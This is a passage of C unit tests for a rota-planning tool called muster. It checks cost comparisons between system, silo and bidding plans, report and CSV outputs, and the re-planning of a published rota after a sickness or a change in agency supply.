	if (!(bound <= cbc + 1e-6 * cbc + 0.01 && cbc <= ours + 1e-6 * cbc + 0.01))
		fail_msg("CBC's optimum %.4f is not between muster's bound %.4f and rota %.4f", cbc,
		         bound, ours);
	if (!(ours <= 1.01 * cbc))
		fail_msg("muster's rota %.4f is more than 1%% above CBC's optimum %.4f", ours, cbc);
	check_outputs("rota", true, false, ours);
	{
		/* the named rota and each partner's slice say the same plan */
		struct mu_scenario *sc = example();
		char plan[400], rota[400], dir[400], why[512];
		tu_path(plan, sizeof(plan), "rota/plan.csv");
		tu_path(rota, sizeof(rota), "rota/rota.csv");
		tu_path(dir, sizeof(dir), "rota");
		if (!plan_check_rota(sc, plan, rota, why, sizeof(why)) ||
		    !plan_check_partner_slices(sc, dir, why, sizeof(why)))
			fail_msg("%s", why);
		tu_path(rota, sizeof(rota), "rota/partners/hospice/rota.csv");
		assert_true(count_lines(rota) > 1);
		{
			/* the report's grid gives the id of every worker whose name
			 * another worker shares (106 of the example's share 46
			 * names), and only theirs */
			char *html, *names, cell[200];
			size_t w, v, n_shared = 0;
			tu_path(rota, sizeof(rota), "rota/report.html");
			html = tu_slurp(rota);
			tu_path(rota, sizeof(rota), "rota/rota.csv");
			names = tu_slurp(rota);
			for (w = 0; w < sc->n_bank; w++) {
				bool is_shared = false, is_working;
				for (v = 0; v < sc->n_bank; v++)
					is_shared |= v != w && strcmp(sc->bank[v].name,
					                              sc->bank[w].name) == 0;
				snprintf(cell, sizeof(cell), "\n%s,", sc->bank[w].id);
				is_working = strstr(names, cell) != NULL;
				n_shared += is_shared;
				snprintf(cell, sizeof(cell), "<tr><td>%s (%s)</td>",
				         sc->bank[w].name, sc->bank[w].id);
				assert_int_equal(strstr(html, cell) != NULL,
				                 is_shared && is_working);
				snprintf(cell, sizeof(cell), "<tr><td>%s</td>", sc->bank[w].name);
				assert_int_equal(strstr(html, cell) != NULL,
				                 !is_shared && is_working);
			}
			assert_int_equal(n_shared, 106);
			free(names);
			free(html);
		}
		mu_scenario_free(sc);
	}
	tu_result_free(&r);
}

/* The number in column col (1-based) of the line of the CSV file that
 * starts with prefix; fails when there is none. */
static double csv_value(const char *path, const char *prefix, int col)
{
	char *text = tu_slurp(path), *line = text;
	double v = NAN;
	int k;
	while (line && *line && strncmp(line, prefix, strlen(prefix)) != 0)
		line = (line = strchr(line, '\n')) ? line + 1 : NULL;
	if (!line || !*line)
		fail_msg("%s: no line starts with '%s'", path, prefix);
	for (k = 1; k < col && line; k++)
		line = (line = strchr(line, ',')) ? line + 1 : NULL;
	if (line)
		v = strtod(line, NULL);
	free(text);
	return v;
}

static size_t count_lines(const char *path)
{
	char *text = tu_slurp(path), *c;
	size_t n = 0;
	for (c = text; *c; c++)
		n += *c == '\n';
	free(text);
	return n;
}

static const char *fixed_supply_example(const char *name);

static void test_cli_compare_system_and_silo(void **state)
{
	struct tu_result r;
	double sys, silo, lower;
	char path[400], *html;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "c.db", NULL);
	sys = headline_cost(r.out);
	tu_result_free(&r);
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--silo", "--db", "c.db", NULL);
	silo = headline_cost(r.out);
	tu_result_free(&r);
	r = tu_run("compare", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cmp", "--db", "c.db",
	           NULL);
	assert_int_equal(r.status, 0);
	/* the value of working together in cash, hours and red flags: the
	 * sentence's spend is compare.csv's */
	assert_non_null(strstr(r.out, "Working together fills "));
	assert_non_null(strstr(r.out, "removes all 8 red flags, "));
	assert_non_null(strstr(r.out, "Partner by partner"));
	{
		/* a partner whose plan is the same alone and together (the
		 * councils: "No change" in the sentence) reads the same in both
		 * columns of the terminal's table: rounded figure by figure,
		 * never a penny apart (a rounding to totals made £7,902.82
		 * against £7,902.83) */
		const char *at = strstr(r.out, "\n  asc_city ");
		char a[32], b[32];
		assert_non_null(strstr(r.out, "No change: "));
		assert_non_null(at);
		assert_int_equal(sscanf(at, " asc_city %31s %31s", a, b), 2);
		assert_string_equal(a, b);
	}
	{
		/* the page says these are plans, not rotas, and names its files;
		 * both searches proven, so no "between the rotas found" */
		char *page;
		tu_path(path, sizeof(path), "cmp/report.html");
		page = tu_slurp(path);
		assert_non_null(strstr(page, "These are two <b>plans</b> (plan mode), not rotas"));
		assert_non_null(strstr(page, "This folder has compare.csv, and system/ and silo/ "
		                             "with each one's plan.csv, summary.csv, why.csv, "
		                             "prices.csv and partners/."));
		assert_null(strstr(page, "between the rotas found"));
		free(page);
	}
	/* compare.csv holds the same two plans as two solves */
	tu_path(path, sizeof(path), "cmp/compare.csv");
	assert_true(fabs(csv_value(path, "SYSTEM,the whole system,total_cost,", 4) - sys) < 0.01);
	assert_true(fabs(csv_value(path, "SYSTEM,the whole system,total_cost,", 5) - silo) < 0.01);
	/* the exact difference rounded, against the difference of two
	 * rounded figures: a penny apart at most */
	assert_true(fabs(csv_value(path, "SYSTEM,the whole system,total_cost,", 6) - (sys - silo)) <
	            0.0101);
	{
		/* "for £X more spend" or "and spends £X less", as compare.csv's sign */
		const char *at = strstr(r.out, "red flags, ");
		double more = csv_value(path, "SYSTEM,the whole system,spend,", 6);
		const char *said =
		    more > 0 ? "red flags, for \xc2\xa3" : "red flags, and spends \xc2\xa3";
		assert_true(fabs(more) > 100); /* whole pounds */
		assert_true(strncmp(at, said, strlen(said)) == 0);
		assert_true(fabs(parse_money(at + strlen(said)) - fabs(more)) <= 0.5);
		assert_non_null(strstr(at, more > 0 ? " more spend" : " less"));
	}
	{
		/* one footing (mu_totals_net_cash): each partner's net cash is its
		 * spend plus recharge paid minus received, in both plans; the
		 * system's is its spend (recharge nets to zero) */
		static const char *const ids[] = {"cmh_trust,", "acute_north,", "hospice,"};
		size_t i;
		int col;
		for (i = 0; i < sizeof(ids) / sizeof(ids[0]); i++)
			for (col = 4; col <= 5; col++) {
				double spend, in, out, net, with, pen;
				spend = csv_value_measure(path, ids[i], "spend", col);
				in = csv_value_measure(path, ids[i], "recharge_in", col);
				out = csv_value_measure(path, ids[i], "recharge_out", col);
				net = csv_value_measure(path, ids[i], "net_cash", col);
				with = csv_value_measure(path, ids[i], "cost_with_recharge", col);
				pen = csv_value_measure(path, ids[i], "penalties", col);
				/* each figure is written in pennies (rounded): a sum
				 * of rounded figures is within a penny and a half */
				assert_true(fabs(net - (spend + out - in)) < 0.02);
				assert_true(fabs(with - (net + pen)) < 0.02);
			}
		assert_true(fabs(csv_value(path, "SYSTEM,the whole system,net_cash,", 4) -
		                 csv_value(path, "SYSTEM,the whole system,spend,", 4)) < 0.01);
	}
	lower = csv_value(path, "SYSTEM,the whole system,total_cost,", 6);
	{
		/* the example's supply answers the rate (supply.csv): the bidding
		 * plan's columns (§3d; test_cli_compare_bidding_with_supply has
		 * its figures) */
		char *csv = tu_slurp(path);
		static const char head[] = "partner,name,measure,system,silo,system_minus_silo,"
		                           "bidding,bidding_minus_system\nacute_north,";
		assert_true(strncmp(csv, head, strlen(head)) == 0);
		free(csv);
		assert_non_null(strstr(r.out, "Bidding"));
	}
	/* the objective and its parts in weights are plain numbers on the
	 * terminal and the page, never pounds; spend keeps its (issue 24) */
	assert_shown_as_weight(r.out, sys);
	assert_shown_as_weight(r.out, silo);
	assert_shown_as_weight(r.out, csv_value(path, "SYSTEM,the whole system,total_cost,", 6));
	assert_shown_as_weight(r.out, csv_value(path, "SYSTEM,the whole system,penalties,", 4));
	assert_shown_as_weight(r.out, csv_value(path, "SYSTEM,the whole system,penalties,", 5));
	/* the partner table's weighted column: the hospice's silo figure */
	assert_shown_as_weight(r.out, csv_value_measure(path, "hospice,", "cost_with_recharge", 5));
	assert_true(line_has_pound(r.out, "  spend (cash) "));
	assert_false(line_has_pound(r.out, "  penalties (weights) "));
	assert_false(line_has_pound(r.out, "  objective (spend+weights) "));
	assert_non_null(strstr(r.out, "The objective (spend plus the penalty weights"));
	assert_null(strstr(r.out, "The cost to the system"));
	/* each plan's own outputs hold by §3 */
	check_outputs("cmp/system", false, false, sys);
	check_outputs("cmp/silo", false, true, silo);
	{
		/* money and hours with two decimals, each measure's partner rows
		 * adding up to SYSTEM's as written, and the page's partner by
		 * partner table to its whole system row as shown (issue 24) */
		char why[512];
		if (!sum_check_compare(path, why, sizeof(why)))
			fail_msg("%s", why);
		tu_path(path, sizeof(path), "cmp/report.html");
		if (!sum_check_compare_partners(path, why, sizeof(why)))
			fail_msg("%s", why);
	}
	tu_path(path, sizeof(path), "cmp/report.html");
	html = tu_slurp(path);
	assert_non_null(strstr(html, "System against silo"));
	assert_shown_as_weight(html, sys);
	assert_shown_as_weight(html, silo);
	assert_shown_as_weight(html, lower);
	assert_null(strstr(html, "<script"));
	free(html);
	tu_result_free(&r);
	r = tu_run("runs", "--db", "c.db", NULL);
	assert_non_null(strstr(r.out, "compare"));
	tu_result_free(&r);
	{
		/* no role's supply answers the rate (the example without its
		 * supply.csv): no bidding plan (§3d), and compare.csv, the
		 * terminal and the page are as they were */
		char *csv;
		static const char head[] = "partner,name,measure,system,silo,system_minus_silo\n"
		                           "acute_north,";
		r = tu_run("compare", fixed_supply_example("cmp-ex"), "--lp", "--out", "cmp-fixed",
		           "--db", "c.db", NULL);
		assert_int_equal(r.status, 0);
		tu_path(path, sizeof(path), "cmp-fixed/compare.csv");
		csv = tu_slurp(path);
		assert_true(strncmp(csv, head, strlen(head)) == 0);
		assert_null(strstr(csv, "bidding"));
		free(csv);
		assert_null(strstr(r.out, "Bidding"));
		assert_null(strstr(r.out, "bidding"));
		tu_path(path, sizeof(path), "cmp-fixed/report.html");
		html = tu_slurp(path);
		assert_null(strstr(html, "bidding"));
		assert_null(strstr(html, "rate card"));
		free(html);
		tu_result_free(&r);
	}
}

/* A copy of the example in tu_dir()/name with a shell edit applied. */
static void edited_example(const char *name, const char *edit)
{
	char cmd[1200];
	snprintf(cmd, sizeof(cmd), "cd '%s' && rm -rf %s && cp -r '%s' %s && cd %s && %s", tu_dir(),
	         name, getenv("MUSTER_EXAMPLE_DIR"), name, name, edit);
	assert_int_equal(system(cmd), 0);
}

/* A copy of the example in tu_dir()/name without its supply.csv: bank
 * supply fixed, the model of DESIGN.md §3 (its bank_cap does nothing
 * then). For the sharded sweep only: with supply curves the plans at a
 * point tie (several optimal plans, one cost), and a shard warm-starts
 * each point from the previous point of its own shard, one process from
 * the previous point of all, so the two may settle on different optima
 * whose partner figures differ; with bank supply fixed they do not. And
 * for the sweeps of a scenario without supply: as before §3d, and the
 * refusal of a bank cap that does nothing. */
static const char *fixed_supply_example(const char *name)
{
	edited_example(name, "rm supply.csv");
	return name;
}

static struct mu_scenario *scenario_in(const char *name);

/* The rise of pay bidding (DESIGN.md §3d) re-derived from the silo plan's
 * plan.csv and the scenario alone, per partner (rise[], sc's order): each
 * bank and bank_extra row of worker role r on shift s pays the highest rate
 * row's rate on (r, s) less its partner's own (else r's bank_rate), x
 * hours x (1 + enhancement). *slack: what the rates' two decimals in
 * plan.csv's `offer` may move it by. */
static void rise_from_plan(const struct mu_scenario *sc, const char *plan_csv, double *rise,
                           double *slack)
{
	size_t n_rs = sc->n_roles * sc->n_shifts, n_p = sc->n_partners, i;
	double *top = calloc(n_rs, sizeof(double)), *own = calloc(n_p * n_rs, sizeof(double));
	char *text = tu_slurp(plan_csv), *line;
	int pass;
	*slack = 0;
	for (i = 0; i < n_p; i++)
		rise[i] = 0;
	for (pass = 0; pass < 2; pass++)
		for (line = strchr(text, '\n'); line && line[1]; line = strchr(line + 1, '\n')) {
			char cell[12][64];
			const char *c = line + 1;
			size_t k, p = n_p, r = sc->n_roles, sh = sc->n_shifts, rs;
			for (k = 0; k < 12; k++) {
				size_t n = strcspn(c, ",\n");
				assert_true(n < sizeof(cell[k]));
				memcpy(cell[k], c, n);
				cell[k][n] = '\0';
				c += n + (c[n] == ',');
			}
			for (k = 0; k < n_p; k++)
				p = strcmp(sc->partners[k].id, cell[1]) == 0 ? k : p;
			for (k = 0; k < sc->n_roles; k++)
				r = strcmp(sc->roles[k].id, cell[3]) == 0 ? k : r;
			for (k = 0; k < sc->n_shifts; k++)
				sh = strcmp(sc->shifts[k].id, cell[4]) == 0 ? k : sh;
			if (pass == 0 && strcmp(cell[0], "rate") == 0) {
				double w = strtod(cell[7], NULL);
				assert_true(p < n_p && r < sc->n_roles && sh < sc->n_shifts);
				rs = r * sc->n_shifts + sh;
				top[rs] = w > top[rs] ? w : top[rs];
				own[p * n_rs + rs] = w;
			} else if (pass == 1 && (strcmp(cell[0], "bank") == 0 ||
			                         strcmp(cell[0], "bank_extra") == 0)) {
				double w, u;
				assert_true(p < n_p && r < sc->n_roles && sh < sc->n_shifts);
				rs = r * sc->n_shifts + sh;
				if (!(top[rs] > 0))
					continue;
				w = own[p * n_rs + rs] > 0 ? own[p * n_rs + rs]
				                           : mu_scenario_cap(sc, r)->bank_rate;
				u = (1 + sc->shifts[sh].enhancement) * strtod(cell[9], NULL);
				rise[p] += u * (top[rs] - w);
				*slack += u * 0.01;
			}
		}
	free(text);
	free(top);
	free(own);
}

static void write_scenario(const char *dir, const char *const *files);

/* The two-partner case of test_supply.c worked out by hand (its comment
 * has the sums) through compare in both modes: a alone reaches rung 2
 * (12.1) on d1, b rung 0, so bidding pays b's 3 staff-shifts 2.1 more an
 * hour: b 360 + 75.60; a 1,729.20 as alone; the system 1,800. */
static void test_cli_compare_bidding_hand_solved(void **state)
{
	static const char *const files[] = {
	    "partners.csv",
	    "id\na\nb\n",
	    "roles.csv",
	    "id\nrn\n",
	    "shifts.csv",
	    "id,date,start,end,paid_hours,enhancement\nd1,2026-11-30,08:00,16:00,8,0.5\n",
	    "staff.csv",
	    "partner,role,shift,available\n",
	    "caps.csv",
	    "role,bank_rate,agency_cap,bank_cap\nrn,10,,12.1\n",
	    "supply.csv",
	    "role,elasticity,reference_rate,step\nrn,1,,0.1\n",
	    "bank.csv",
	    "id,role,home,partners\nw1,rn,a,\nw2,rn,a,\nw3,rn,a,\nw4,rn,a,\nw5,rn,a,\n"
	    "w6,rn,a,\nw7,rn,a,\nw8,rn,a,\nw9,rn,a,\nw10,rn,a,\nv1,rn,b,a;b\n"
	    "v2,rn,b,a;b\nv3,rn,b,a;b\nv4,rn,b,a;b\nv5,rn,b,a;b\n",
	    "availability.csv",
	    "worker,shift\nw1,d1\nw2,d1\nw3,d1\nw4,d1\nw5,d1\nw6,d1\nw7,d1\n"
	    "w8,d1\nw9,d1\nw10,d1\nv1,d1\nv2,d1\nv3,d1\nv4,d1\nv5,d1\n",
	    "demand.csv",
	    "partner,role,shift,required\na,rn,d1,12\nb,rn,d1,3\n",
	    NULL};
	int mode;
	(void)state;
	write_scenario("two-bid", files);
	for (mode = 0; mode < 2; mode++) {
		char dir[400], out[40], path[400];
		struct tu_result r;
		tu_path(dir, sizeof(dir), "two-bid");
		snprintf(out, sizeof(out), "two-bid-%d", mode);
		r = mode ? tu_run("compare", dir, "--lp", "--out", out, "--db", "two.db", NULL)
		         : tu_run("compare", dir, "--out", out, "--db", "two.db", NULL);
		assert_int_equal(r.status, 0);
		snprintf(path, sizeof(path), "%s/%s/compare.csv", tu_dir(), out);
		assert_true(fabs(csv_value(path, "a,a,spend,", 5) - 1729.2) < 1e-6);
		assert_true(fabs(csv_value(path, "a,a,spend,", 7) - 1729.2) < 1e-6);
		assert_true(fabs(csv_value(path, "b,b,spend,", 5) - 360) < 1e-6);
		assert_true(fabs(csv_value(path, "b,b,spend,", 7) - 435.6) < 1e-6);
		assert_true(fabs(csv_value(path, "SYSTEM,the whole system,spend,", 4) - 1800) <
		            1e-6);
		assert_true(fabs(csv_value(path, "SYSTEM,the whole system,spend,", 7) - 2164.8) <
		            1e-6);
		assert_true(fabs(csv_value(path, "SYSTEM,the whole system,spend,", 8) - 364.8) <
		            1e-6);
		assert_true(
		    fabs(csv_value(path, "SYSTEM,the whole system,filled_hours,", 7) - 120) < 1e-6);
		assert_non_null(strstr(r.out, "partners would spend \xc2\xa3"
		                              "75.60 more per day than alone at their own rates"));
		assert_non_null(strstr(r.out, "Against bidding, the system plan spends \xc2\xa3"
		                              "365 less"));
		assert_non_null(strstr(r.out,
		                       "bidding against alone: a the same net cash; b \xc2\xa3"
		                       "75.60 more net cash."));
		tu_result_free(&r);
	}
}

/* The example, with its supply curves (DESIGN.md §3d: supply.csv and
 * caps.csv's bank_cap, a curve for every role but rn_b7) through compare
 * --lp: the third plan,
 * bidding, on the terminal, compare.csv and report.html. compare.csv's
 * bidding spend is the silo spend plus the rise re-derived from the silo's
 * plan.csv; the partners' rows add up to SYSTEM's as written; filled hours
 * and penalties are the silo's; and the sentence's figures are the file's. */
static void test_cli_compare_bidding_with_supply(void **state)
{
	struct tu_result r;
	struct mu_scenario *sc;
	char path[400], plan[400], *csv, *html;
	const char *at;
	double rise[16], slack, sum[3] = {0, 0, 0}, x;
	size_t p;
	(void)state;
	edited_example("bid", ":");
	sc = scenario_in("bid");
	assert_true(sc->n_partners <= 16);
	tu_path(path, sizeof(path), "bid");
	r = tu_run("compare", path, "--lp", "--out", "bid-cmp", "--db", "bid.db", NULL);
	assert_int_equal(r.status, 0);
	tu_path(path, sizeof(path), "bid-cmp/compare.csv");
	csv = tu_slurp(path);
	{
		static const char head[] = "partner,name,measure,system,silo,system_minus_silo,"
		                           "bidding,bidding_minus_system\n";
		assert_true(strncmp(csv, head, strlen(head)) == 0);
	}
	free(csv);
	tu_path(plan, sizeof(plan), "bid-cmp/silo/plan.csv");
	rise_from_plan(sc, plan, rise, &slack);
	for (p = 0; p < sc->n_partners; p++) {
		char id[80];
		double silo, bid, sys;
		snprintf(id, sizeof(id), "%s,", sc->partners[p].id);
		silo = csv_value_measure(path, id, "spend", 5);
		bid = csv_value_measure(path, id, "spend", 7);
		sys = csv_value_measure(path, id, "spend", 4);
		if (fabs(bid - silo - rise[p]) > slack + 0.02)
			fail_msg("%s: bidding %.2f - silo %.2f, the rise re-derived %.2f", id, bid,
			         silo, rise[p]);
		assert_true(bid >= silo - 0.01);
		/* bidding - system, each within a penny of its exact value */
		assert_true(fabs(csv_value_measure(path, id, "spend", 8) - (bid - sys)) < 0.021);
		/* the same staff as alone: the same hours and penalties */
		assert_true(fabs(csv_value_measure(path, id, "filled_hours", 7) -
		                 csv_value_measure(path, id, "filled_hours", 5)) < 1e-6);
		assert_true(fabs(csv_value_measure(path, id, "penalties", 7) -
		                 csv_value_measure(path, id, "penalties", 5)) < 0.011);
		sum[0] += bid;
		sum[1] += csv_value_measure(path, id, "spend", 8);
		sum[2] += csv_value_measure(path, id, "net_cash", 7);
	}
	/* the partners' rows add up to SYSTEM's as written */
	assert_true(fabs(sum[0] - csv_value(path, "SYSTEM,the whole system,spend,", 7)) < 0.001);
	assert_true(fabs(sum[1] - csv_value(path, "SYSTEM,the whole system,spend,", 8)) < 0.001);
	assert_true(fabs(sum[2] - csv_value(path, "SYSTEM,the whole system,net_cash,", 7)) < 0.001);
	/* some partner pays more bidding than alone */
	x = csv_value(path, "SYSTEM,the whole system,spend,", 7) -
	    csv_value(path, "SYSTEM,the whole system,spend,", 5);
	assert_true(x > 100);
	/* the terminal: the table and the sentence, its rise compare.csv's */
	assert_non_null(strstr(r.out, "\nBidding (partners alone"));
	at = strstr(r.out, "), partners would spend \xc2\xa3");
	assert_non_null(at);
	at += strlen("), partners would spend \xc2\xa3");
	assert_true(fabs(parse_money(at) - x) <= 0.5 + 0.01);
	assert_non_null(strstr(at, " more per week than alone at their own rates"));
	assert_non_null(strstr(r.out, "Against bidding, the system plan spends \xc2\xa3"));
	/* the page: its section, and the table's system row as compare.csv */
	tu_path(path, sizeof(path), "bid-cmp/report.html");
	html = tu_slurp(path);
	assert_non_null(strstr(html, "<h2>What the shared rate card is worth</h2>"));
	assert_non_null(strstr(html, "partners would spend \xc2\xa3"));
	free(html);
	tu_result_free(&r);
	mu_scenario_free(sc);
}

/* The scenario folder tu_dir()/name, parsed. */
static struct mu_scenario *scenario_in(const char *name)
{
	char path[400];
	tu_path(path, sizeof(path), name);
	return tu_load_dir(path);
}

/* The number of lines of text that begin with prefix. */
static size_t count_prefixed(const char *text, const char *prefix)
{
	size_t n = 0;
	const char *at;
	for (at = text; at; at = strchr(at, '\n')) {
		at += *at == '\n';
		n += strncmp(at, prefix, strlen(prefix)) == 0;
	}
	return n;
}

/* Whether the lines after text's header are in order of their date and
 * start, the cells date_col and date_col + 1 (0-based; no quoted cell
 * before them). */
static bool is_by_start(const char *text, int date_col)
{
	char last[32] = "";
	const char *line = strchr(text, '\n');
	while (line && line[1]) {
		const char *c = line + 1;
		char when[32];
		int k;
		size_t n;
		for (k = 0; k < date_col; k++)
			c = strchr(c, ',') + 1;
		n = strcspn(strchr(c, ',') + 1, ",") + (size_t)(strchr(c, ',') + 1 - c);
		if (n >= sizeof(when))
			return false;
		memcpy(when, c, n);
		when[n] = '\0';
		if (strcmp(when, last) < 0)
			return false;
		strcpy(last, when);
		line = strchr(line + 1, '\n');
	}
	return true;
}

/* The re-plan of docs/replanning.md (a rota; bw016 sick on Thursday, four
 * more nurses on Wednesday's late shift): the bank workers to phone in
 * calls.csv, by name, id, day and clock times, first to start first, and
 * an empty bookings.csv (no agency booking changes), both named on the
 * terminal; then, in plan mode, NHSP's capacity cut from 4 to 3 a shift:
 * bookings.csv lists every agency change of changes.csv, a move as a
 * cancellation and a new booking, by start, the supplier named. */
static void test_cli_keep_writes_calls_and_bookings(void **state)
{
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	struct tu_result r;
	char path[400], *text, *changes;
	size_t n_removed, n_added, n_moved;
	(void)state;
	r = tu_run("solve", ex, "--db", "cb.db", "--out", "pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	edited_example("wed", "sed -i '/^bw016,thu-e$/d' availability.csv && sed -i "
	                      "'s/^acute_north,rn_b5,wed-l,29,/acute_north,rn_b5,wed-l,33,/' "
	                      "demand.csv");
	r = tu_run("solve", "wed", "--db", "cb.db", "--keep", "pub/plan.csv", "--now",
	           "2026-12-02T12:00", "--out", "replan", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "    added: bank worker Farah Lewis (bw016), Wed 2 Dec "
	                              "14:30–22:30 (wed-l), at acute_north rn_b5\n"));
	assert_non_null(strstr(r.out, " changes.csv, calls.csv (the bank workers to phone), "
	                              "bookings.csv (the agency bookings to make and cancel), "));
	tu_result_free(&r);
	tu_path(path, sizeof(path), "replan/calls.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_string_equal(
	    text, "name,worker,change,shift,date,start,end,partner,partner_name,role,"
	          "from_partner,from_role,forced,reason\n"
	          "Farah Lewis,bw016,added,wed-l,2026-12-02,14:30,22:30,acute_north,"
	          "Northshire Acute Hospitals NHS Trust,rn_b5,,,no,\n"
	          "Farah Lewis,bw016,removed,thu-e,2026-12-03,07:00,15:00,acute_north,"
	          "Northshire Acute Hospitals NHS Trust,rn_b5,,,yes,shift no longer offered\n");
	free(text);
	tu_path(path, sizeof(path), "replan/bookings.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_string_equal(text, "booking,supplier,offer,partner,partner_name,role,shift,date,"
	                          "start,end,staff,forced,reason\n");
	free(text);

	/* bookings: NHSP offers three a shift where it offered four */
	r = tu_run("solve", ex, "--lp", "--db", "cb.db", "--out", "lp", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	edited_example("nhsp", "sed -i 's/^nhsp_framework,1,yes,rn_b5,\\*,23.29,4$/"
	                       "nhsp_framework,1,yes,rn_b5,*,23.29,3/' agency.csv");
	r = tu_run("solve", "nhsp", "--lp", "--db", "cb.db", "--keep", "lp/plan.csv", "--out",
	           "lp-re", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	tu_path(path, sizeof(path), "lp-re/changes.csv");
	changes = tu_slurp(path);
	assert_non_null(changes);
	n_removed = count_prefixed(changes, "removed,agency,");
	n_added = count_prefixed(changes, "added,agency,");
	n_moved = count_prefixed(changes, "moved,agency,");
	assert_true(n_removed > 0);
	assert_true(n_added > 0);
	tu_path(path, sizeof(path), "lp-re/bookings.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_int_equal(count_prefixed(text, "cancelled,"), n_removed + n_moved);
	assert_int_equal(count_prefixed(text, "new,"), n_added + n_moved);
	assert_int_equal(count_prefixed(text, "cancelled,nhsp_framework,*,"), n_removed + n_moved);
	assert_true(is_by_start(text, 7));
	assert_int_equal(count_prefixed(text, "cancelled,,"), 0);
	free(text);
	free(changes);
	tu_path(path, sizeof(path), "lp-re/calls.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_true(is_by_start(text, 4));
	free(text);

	/* NHSP's offer gone: its bookings are cancelled by the supplier's name,
	 * as the kept plan has it, forced */
	edited_example("nonhsp", "sed -i '/^nhsp_framework,1,yes,rn_b5,/d' agency.csv");
	r = tu_run("solve", "nonhsp", "--lp", "--db", "cb.db", "--keep", "lp/plan.csv", "--out",
	           "lp-gone", NULL);
	assert_true(r.status == 0 || r.status == 3);
	tu_result_free(&r);
	tu_path(path, sizeof(path), "lp-gone/changes.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_true(count_prefixed(text, "removed,agency,,,nhsp_framework,,") > 0);
	free(text);
	tu_path(path, sizeof(path), "lp-gone/bookings.csv");
	text = tu_slurp(path);
	assert_non_null(text);
	assert_true(count_prefixed(text, "cancelled,nhsp_framework,,") > 0);
	assert_int_equal(count_prefixed(text, "cancelled,,"), 0);
	assert_non_null(strstr(text, ",yes,agency offer gone\n"));
	free(text);
}

/* DESIGN.md §3b end to end: the example published in plan mode, re-planned
 * unchanged (no change), then after a sickness and a demand rise with
 * --keep and --now: changes.csv, the changes first on the terminal, the
 * count in the headline, plan.csv through plan_check with the kept plan
 * (change penalties and the past re-derived); run:ID; compare; and the
 * kept plan's errors. */
static void csv_cell(const char *path, const char *prefix, int col, char *out, size_t size);

static void test_cli_keep_replans_the_published_rota(void **state)
{
	static const char *const header = "source,partner,role,worker_role,shift,home,worker,"
	                                  "offer,staff,hours,cost,recharge\n";
	struct tu_result r;
	struct mu_scenario *sc;
	char plan[400], kept[400], summary[400], why[512], *text;
	const char *changes, *unfilled;
	double objective;
	/* 2026-12-02T12:00 */
	long now = 20789L * 1440 + 12 * 60;
	const char *ex = getenv("MUSTER_EXAMPLE_DIR");
	FILE *fp;
	(void)state;
	r = tu_run("solve", ex, "--lp", "--db", "k.db", "--out", "pub", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("solve", ex, "--lp", "--db", "k.db", "--keep", "pub/plan.csv", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, ", 0 changes to the kept plan\n"));
	assert_non_null(strstr(r.out, "No change against the kept plan"));
	tu_result_free(&r);

	/* bw006 worked thu-n in the published plan, and calls in sick */
	edited_example("sick", "sed -i '/^bw006,thu-n$/d' availability.csv && sed -i "
	                       "'s/^acute_north,rn_b5,wed-l,29,/acute_north,rn_b5,wed-l,33,/' "
	                       "demand.csv");
	r = tu_run("solve", "sick", "--lp", "--db", "k.db", "--keep", "pub/plan.csv", "--now",
	           "2026-12-02T12:00", "--out", "re", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, " changes to the kept plan (1 forced)"));
	/* what it re-plans, on the terminal and on the page (issue 24) */
	assert_non_null(strstr(r.out, "A re-plan of pub/plan.csv (--keep): the shifts that start "
	                              "from Wed 2 Dec 2026 12:00 (--now) are planned again, those "
	                              "before stay as kept. "));
	tu_path(plan, sizeof(plan), "re/report.html");
	text = tu_slurp(plan);
	assert_non_null(text);
	assert_non_null(strstr(text, "<p><b>A re-plan of pub/plan.csv (--keep): the shifts that "
	                             "start from Wed 2 Dec 2026 12:00 (--now) are planned again"));
	/* the page names every file the folder has (a review: calls.csv and
	 * bookings.csv were left out) */
	assert_non_null(strstr(text, ", changes.csv, calls.csv (whom to phone), bookings.csv "));
	free(text);
	{
		/* a partner's page gives the mutual aid it received and lent (a
		 * review found acute_north's "0 h mutual aid" though it received
		 * 500 h: the tile showed only what it lent) */
		char cell[64], want[96];
		tu_path(summary, sizeof(summary), "re/summary.csv");
		csv_cell(summary, "\nacute_north,", 5, cell, sizeof(cell));
		snprintf(want, sizeof(want), "<b>%.0f h in, ", strtod(cell, NULL));
		assert_true(strtod(cell, NULL) > 0);
		tu_path(plan, sizeof(plan), "re/partners/acute_north/report.html");
		text = tu_slurp(plan);
		assert_non_null(strstr(text, want));
		free(text);
	}
	tu_path(plan, sizeof(plan), "re/partners/hospice/report.html");
	text = tu_slurp(plan);
	assert_non_null(text);
	assert_non_null(strstr(text, "<p><b>A re-plan of pub/plan.csv (--keep): "));
	free(text);
	changes = strstr(r.out, "changes against the kept plan: ");
	unfilled = strstr(r.out, "Red flags first");
	assert_non_null(changes);
	assert_non_null(unfilled);
	assert_true(changes < unfilled);
	assert_non_null(strstr(r.out, "removed: bank worker Kofi Walker (bw006), Thu 3 Dec "
	                              "22:00–07:30 (thu-n), at acute_north rn_b5; "
	                              "forced (shift no longer offered), no penalty"));
	objective = headline_cost(r.out);
	tu_result_free(&r);
	tu_path(plan, sizeof(plan), "re/changes.csv");
	text = tu_slurp(plan);
	assert_non_null(text);
	assert_non_null(strstr(text, "change,source,worker,name,supplier,offer,shift,date,start,"
	                             "end,from_partner,from_role,to_partner,to_role,staff,"
	                             "change_penalty,forced,reason\n"));
	assert_non_null(strstr(text, "\nremoved,bank,bw006,Kofi Walker,,,thu-n,2026-12-03,22:00,"
	                             "07:30,acute_north,rn_b5,,,1,0.00,yes,"
